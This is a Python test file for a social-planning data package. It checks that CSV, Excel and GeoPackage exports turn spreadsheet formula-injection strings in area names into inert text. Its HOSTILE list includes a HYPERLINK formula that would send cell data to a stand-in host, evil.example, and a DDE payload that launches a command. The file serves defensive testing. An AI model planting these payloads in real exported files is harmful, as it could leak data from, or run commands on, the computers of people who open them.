"""Spreadsheet-safe outputs: hostile area names never become formulas (OWASP "CSV Injection").

The area names are the attack strings from issue 8 put into the Eifelkreis demo geometry (synthetic
edits); the tables are written by the same functions the notebooks call.
"""

from __future__ import annotations

import csv

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from hypothesis import given
from hypothesis import strategies as st

import sozialplanung as sp
from sozialplanung.publish.export import neutralise, restore, write_tables, write_workbooks

from conftest import PARAMS

HOSTILE = [
    '=HYPERLINK("https://evil.example/?a="&A1,"klick")',
    "=cmd|' /C calc'!A0",
    "@SUMME(A1:A9)",
    "+49 30 1234567",
    "-2+3",
    "\t=1+1",
    "'=schon maskiert",
]
IN_CSV = {"\r=1+1": "\n=1+1", "Zeile\r01,999": "Zeile\n01,999"}  # CR → LF: no extra row
PLAIN = ["Prüm", "Bitburg, Stadt", "-1.5", "1e3", "'Zitat'", "a=b", *IN_CSV]


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    """The Eifelkreis package with hostile names, written as the notebooks write it."""
    dp = sp.load_datenpaket(PARAMS / "eifelkreis" / "bitburg-pruem.yaml")
    areas = dp.areas.copy()
    names = HOSTILE + PLAIN
    areas.iloc[:len(names), areas.columns.get_loc("name")] = names
    dp.areas = areas
    values = dp.values().iloc[:, :1].rename(columns=lambda c: "=SUMME(A1)")  # a hostile header, too
    table = sp.analysis.pipeline.for_report(dp, values)
    table["veraenderung"] = -1.5
    table["bemerkung"] = pd.Series(names, index=table.index[:len(names)]).reindex(table.index)
    out = tmp_path_factory.mktemp("ausgabe")
    write_tables(out, gebiete=table)
    write_workbooks(out, areas)
    return out, table


def test_csv_text_cells_are_neutralised(written):
    out, table = written
    with open(out / "tabellen" / "gebiete.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert "'=SUMME(A1)" in rows[0]  # the header
    by_id = {r["gebiet_id"]: r for r in rows}
    for gid, name in table["name"].items():
        cell = by_id[gid]["name"]
        expected = name.replace("\r", "\n")  # a bare CR would end the row
        assert cell == ("'" + expected if expected in HOSTILE else expected)
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell in ("-1.5",)
    assert {r["veraenderung"] for r in rows} == {"-1.5"}  # numbers stay numbers


def test_csv_reads_back_as_numbers_and_original_text(written):
    out, table = written
    back = sp.publish.export.read_tables(out)["gebiete"].set_index("gebiet_id")
    assert back["name"].tolist() == table["name"].replace(IN_CSV).tolist() and len(back) == len(table)
    assert back["veraenderung"].eq(-1.5).all() and "=SUMME(A1)" in back.columns


def test_xlsx_has_no_formula_cells(written):
    out, table = written
    wb = openpyxl.load_workbook(out / "ergebnisse.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(HOSTILE) <= texts and "=SUMME(A1)" in texts
    hostile = [c for c in cells if c.value in HOSTILE]
    assert all(c.quotePrefix for c in hostile)  # Excel keeps them text when a cell is edited
    numbers = [c.value for c in cells if c.data_type == "n"]
    assert -1.5 in numbers


def test_xlsx_read_by_calamine_gives_the_text(written):
    """A second reader (Rust calamine, as LibreOffice-like tools read it) sees text, not a result."""
    from python_calamine import CalamineWorkbook

    wb = CalamineWorkbook.from_path(str(written[0] / "ergebnisse.xlsx"))
    rows = wb.get_sheet_by_name("gebiete").to_python()
    col = rows[0].index("name")
    assert set(HOSTILE) <= {r[col] for r in rows[1:]}


def test_geopackage_gets_plain_strings(written):
    out, table = written
    layer = pyogrio.read_dataframe(out / "ergebnisse.gpkg", layer="gebiete", read_geometry=False)
    assert layer.set_index("gebiet_id")["name"].to_dict() == table["name"].to_dict()  # from the geometry
    assert set(HOSTILE) <= set(layer["bemerkung"].dropna())


@given(st.text(max_size=12) | st.sampled_from(HOSTILE + PLAIN))
def test_neutralise_is_safe_and_reversible(text):
    safe = neutralise(text)
    assert restore(safe) == text
    if safe[:1] in ("=", "+", "-", "@", "\t", "\r"):
        float(safe)  # only a plain number may start with a sign


def test_non_text_values_unchanged():
    assert neutralise(-1.5) == -1.5 and neutralise(None) is None and neutralise("-1.5") == "-1.5"
    df = pd.DataFrame({"a": [-1.5, 2.0], "b": ["=x", "y"]}).astype({"b": "category"})
    assert sp.publish.export._texts(df, neutralise)["b"].tolist() == ["'=x", "y"]


def test_write_tables_keeps_dates(tmp_path):
    df = pd.DataFrame({"stichtag": pd.to_datetime(["2021-12-31"]), "wert": [1]})
    write_tables(tmp_path, t=df)
    assert (tmp_path / "tabellen" / "t.csv").read_text(encoding="utf-8") == "stichtag,wert\n2021-12-31,1\n"


def test_gpd_roundtrip_of_hostile_layer_name(tmp_path):
    """A table named like a formula still writes (sheet and layer names are not cells)."""
    areas = gpd.GeoDataFrame({"name": ["=1+1"]}, geometry=gpd.points_from_xy([0], [0]).buffer(1),
                             crs=25832, index=pd.Index(["01"], name="gebiet_id"))
    write_tables(tmp_path, **{"tabelle": pd.DataFrame({"wert": [1.0]}, index=areas.index)})
    write_workbooks(tmp_path, areas)
    layer = pyogrio.read_dataframe(tmp_path / "ergebnisse.gpkg", layer="tabelle", read_geometry=False)
    assert layer["name"].tolist() == ["=1+1"]


def test_parent_ids_keep_leading_zeros(tmp_path):
    areas = gpd.GeoDataFrame({"name": ["A", "B"]}, geometry=gpd.points_from_xy([0, 5], [0, 0]).buffer(1),
                             crs=25832, index=pd.Index(["07232001", "07232002"], name="gebiet_id"))
    table = pd.DataFrame({"Verbandsgemeinde": ["072325005", "072325006"], "wert": [1.5, -2.0]}, index=areas.index)
    write_tables(tmp_path, t=table)
    write_workbooks(tmp_path, areas)
    ws = openpyxl.load_workbook(tmp_path / "ergebnisse.xlsx")["t"]
    assert [c.value for c in ws["B"][1:]] == ["072325005", "072325006"] and [c.value for c in ws["C"][1:]] == [1.5, -2]
